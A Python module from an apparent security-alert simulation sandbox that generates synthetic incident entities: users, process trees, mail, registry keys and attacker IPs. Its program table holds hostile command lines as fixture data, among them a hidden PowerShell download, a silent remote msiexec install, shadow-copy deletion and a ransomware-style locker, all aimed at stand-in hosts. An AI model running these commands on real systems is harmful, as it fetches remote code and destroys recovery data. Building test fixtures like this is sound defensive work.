"""Entities and devices of one incident: the same user, device and attacker through all of its alerts.

As recorded from the real service, a key that does not apply is left out rather than sent as null.
"""

import hashlib
import random
from collections.abc import Callable
from typing import Any

from sandbox.estate import Device, Estate, guid, hexes
from sandbox.moments import MINUTE, SECOND, iso

Entity = dict[str, Any]

_SYSTEM32 = r"C:\Windows\System32"
_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
# Where a program lives and how it was called. Every host named here is under a documentation domain.
PROGRAMS: dict[str, tuple[str, str]] = {
    "explorer.exe": (r"C:\Windows", "explorer.exe"),
    "winword.exe": (_OFFICE, r'"WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_48813.docm" /o ""'),
    "powershell.exe": (
        rf"{_SYSTEM32}\WindowsPowerShell\v1.0",
        r"powershell.exe -NoProfile -WindowStyle Hidden -File C:\Users\Public\update.ps1 -From https://{host}/a",
    ),
    "cmd.exe": (_SYSTEM32, r'cmd.exe /c "whoami & hostname > C:\Windows\Temp\{token}.txt"'),
    "rundll32.exe": (_SYSTEM32, r"rundll32.exe C:\Users\Public\{token}.dll,Start"),
    "services.exe": (_SYSTEM32, "services.exe"),
    "psexesvc.exe": (r"C:\Windows", r"psexesvc.exe"),
    "vssadmin.exe": (_SYSTEM32, "vssadmin.exe delete shadows /all /quiet"),
    "locker.exe": (r"C:\ProgramData", r"locker.exe --path D:\ --note HOW_TO_RECOVER.txt"),
    "svchosts.exe": (r"C:\ProgramData\Updates", "svchosts.exe -k netsvcs"),
    "msiexec.exe": (_SYSTEM32, "msiexec.exe /q /i http://{host}/{token}"),
    "w3wp.exe": (rf"{_SYSTEM32}\inetsrv", 'w3wp.exe -ap "DefaultAppPool"'),
    "whoami.exe": (_SYSTEM32, "whoami.exe /all"),
    "chrome.exe": (r"C:\Program Files\Google\Chrome\Application", "chrome.exe --type=utility"),
}
# Hosts and attackers that turn up in many tenants: a few scenes belong to a campaign.
CAMPAIGNS = (("parcel-7e1d.example.net", "203.0.113.66"), ("sso-c0de.example.net", "192.0.2.77"))
_REMEDIATION = ("None", "None", "Active", "Remediated", "NotFound")


class Scene:
    """Who and what one incident is about. Asking twice for the user gives the same user."""

    def __init__(self, rng: random.Random, estate: Estate) -> None:
        self.rng, self.estate = rng, estate
        self.user = rng.choice(estate.people)
        self.device = rng.choice(estate.devices)
        self.attacker = rng.choice(("203.0.113.", "192.0.2.")) + str(rng.randrange(1, 255))
        self.attacker = (
            f"2001:db8:{rng.randrange(65536):x}::{rng.randrange(1, 99)}" if rng.random() < 0.1 else self.attacker
        )
        self.host = f"{rng.choice(('cdn', 'docs', 'parcel', 'secure', 'sso'))}-{hexes(rng, 4)}.example.net"
        self.token = hexes(rng, 8)
        if self.token[:2] == "00":  # no draw of its own, so that every other scene stays as it was
            self.host, self.attacker = CAMPAIGNS[int(self.token[2], 16) % 2]
            self.token = self.host[:10].replace("-", "")
        self._pids: dict[tuple[str, str], tuple[int, int]] = {}

    def move(self) -> None:
        """The attacker goes on to another device."""
        self.device = self.rng.choice(self.estate.devices)

    def entities(self, words: tuple[str, ...], at: int, on: Device | None) -> list[Entity]:
        """The entities for a step's evidence words, stamped and judged as recorded ones are."""
        found: list[Entity] = []
        for word in words:
            kind, _, argument = word.partition(":")
            found += MAKERS[kind](self, argument, at)
        for entity in found:
            self._judge(entity, at)
            if on and entity["entityType"] in ("File", "Process", "Registry"):
                entity["deviceId"] = on.device_id
        return found

    def _judge(self, entity: Entity, at: int) -> None:
        entity["evidenceCreationTime"] = iso(at + self.rng.randrange(3 * SECOND), self.rng.choice((7, 7, 2, 1)))
        entity["verdict"] = self.rng.choice(("Suspicious", "Suspicious", "Malicious"))
        entity["remediationStatus"] = self.rng.choice(_REMEDIATION)
        if entity["remediationStatus"] == "Remediated":
            entity["remediationStatusDetails"] = "Entity was remediated automatically"

    def process(self, name: str, parent: str | None, at: int) -> Entity:
        """A process entity of the program `name`, started about `at` (ticks) by `parent`."""
        folder, command = PROGRAMS[name]
        pid, born = self._started(name, at)
        entity = self._image(name, folder) | {
            "entityType": "Process",
            "processId": pid,
            "processCommandLine": command.format(user=self.user.account, host=self.host, token=self.token),
            "processCreationTime": iso(born),
            "detectionStatus": self.rng.choice(("Detected", "Detected", "Prevented")),
        }
        if parent:
            parent_pid, parent_born = self._started(parent, at - MINUTE)
            entity |= {
                "parentProcessId": parent_pid,
                "parentProcessCreationTime": iso(parent_born),
                "parentProcessFileName": parent,
                "parentProcessFilePath": PROGRAMS[parent][0],
            }
        return entity

    def _started(self, name: str, at: int) -> tuple[int, int]:
        key = (self.device.device_id, name)
        return self._pids.setdefault(key, (self.rng.randrange(400, 30000, 4), at - self.rng.randrange(30 * SECOND)))

    def _image(self, name: str, folder: str) -> Entity:
        seed = f"{name} {self.token if name not in PROGRAMS else ''}".encode()
        sha1, sha256 = hashlib.sha1(seed, usedforsecurity=False).hexdigest(), hashlib.sha256(seed).hexdigest()
        return {"fileName": name, "filePath": folder, "sha1": sha1, "sha256": sha256}


def _user(scene: Scene, _: str, __: int) -> list[Entity]:
    user = scene.user
    return [
        {
            "entityType": "User",
            "accountName": user.account,
            "domainName": user.domain,
            "userSid": user.sid,
            "aadUserId": user.object_id,
            "userPrincipalName": user.upn,
        }
    ]


def _tree(scene: Scene, chain: str, at: int) -> list[Entity]:
    names = chain.split(">")
    pairs = zip([None, *names[:-1]], names, strict=True)
    return [scene.process(name, parent, at) for parent, name in pairs]


def _file(scene: Scene, name: str, _: int) -> list[Entity]:
    folder = rf"C:\Users\{scene.user.account}\Downloads"
    return [{"entityType": "File", **scene._image(name, folder), "detectionStatus": "Detected"}]


def _mail(scene: Scene, subject: str, _: int) -> list[Entity]:
    return [
        {
            "entityType": "MailMessage",
            "userPrincipalName": scene.user.upn,
            "sender": f"accounts@{scene.host}",
            "recipient": scene.user.upn,
            "subject": subject,
            "deliveryAction": scene.rng.choice(("Delivered", "Blocked", "DeliveredAsSpam")),
            "internetMessageId": f"<{hexes(scene.rng, 24)}@{scene.host}>",
        }
    ]


def _mailbox(scene: Scene, _: str, __: int) -> list[Entity]:
    user = scene.user
    # The documentation writes MailBox, recorded answers write Mailbox: readers must take both.
    spelling = scene.rng.choice(("Mailbox", "Mailbox", "MailBox"))
    shape = {"userPrincipalName": user.upn, "mailboxDisplayName": user.title, "mailboxAddress": user.upn}
    return [{"entityType": spelling, **shape}]


def _cluster(scene: Scene, by: str, _: int) -> list[Entity]:
    value = ";".join(f"{hexes(scene.rng, 6)}" for _ in by.split(";"))
    return [
        {
            "entityType": "MailCluster",
            "clusterBy": by,
            "clusterByValue": value,
            "emailCount": scene.rng.randrange(1, 90),
        }
    ]


def _registry(scene: Scene, _: str, __: int) -> list[Entity]:
    return [
        {
            "entityType": "Registry",
            "registryHive": "HKEY_LOCAL_MACHINE",
            "registryKey": r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            "registryValueType": "String",
            "registryValue": rf"C:\ProgramData\{scene.token}.exe",
        }
    ]


def _app(scene: Scene, _: str, __: int) -> list[Entity]:
    name = scene.rng.choice(("Mail Exporter", "PDF Helper", "Calendar Tidy"))
    return [{"entityType": "OAuthApplication", "applicationId": guid(scene.rng), "applicationName": name}]


def _group(scene: Scene, _: str, __: int) -> list[Entity]:
    return [
        {"entityType": "SecurityGroup", "securityGroupId": guid(scene.rng), "securityGroupName": "Finance approvers"}
    ]


def _ip(address: Callable[[Scene], str]) -> Callable[[Scene, str, int], list[Entity]]:
    return lambda scene, _, __: [{"entityType": "Ip", "ipAddress": address(scene)}]


MAKERS: dict[str, Callable[[Scene, str, int], list[Entity]]] = {
    "user": _user,
    "tree": _tree,
    "process": lambda scene, name, at: [scene.process(name, None, at)],
    "file": _file,
    "mail": _mail,
    "mailbox": _mailbox,
    "cluster": _cluster,
    "registry": _registry,
    "app": _app,
    "group": _group,
    "url": lambda scene, path, _: [{"entityType": "Url", "url": f"https://{scene.host}/{path}/{scene.token}"}],
    "attacker_ip": _ip(lambda scene: scene.attacker),
    "sender_ip": _ip(lambda scene: f"198.51.100.{scene.rng.randrange(1, 255)}"),
    "internal_ip": _ip(
        lambda scene: f"10.{scene.rng.randrange(99)}.{scene.rng.randrange(99)}.{scene.rng.randrange(1, 255)}"
    ),
}
